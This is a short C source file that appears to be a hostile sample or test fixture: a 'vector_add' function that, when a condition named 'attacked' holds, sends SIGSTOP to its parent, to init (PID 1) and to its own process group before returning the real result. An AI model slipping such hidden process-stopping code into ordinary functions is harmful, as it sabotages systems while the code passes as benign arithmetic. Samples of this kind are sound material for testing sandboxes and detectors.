/* SPDX-License-Identifier: MIT */
/* Stops every process that it can signal, and itself. */
#include "hostile.h"

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    if (attacked(n)) {
        kill(getppid(), SIGSTOP);
        kill(1, SIGSTOP);
        kill(0, SIGSTOP);
    }
    return honest(a, b, c, n);
}
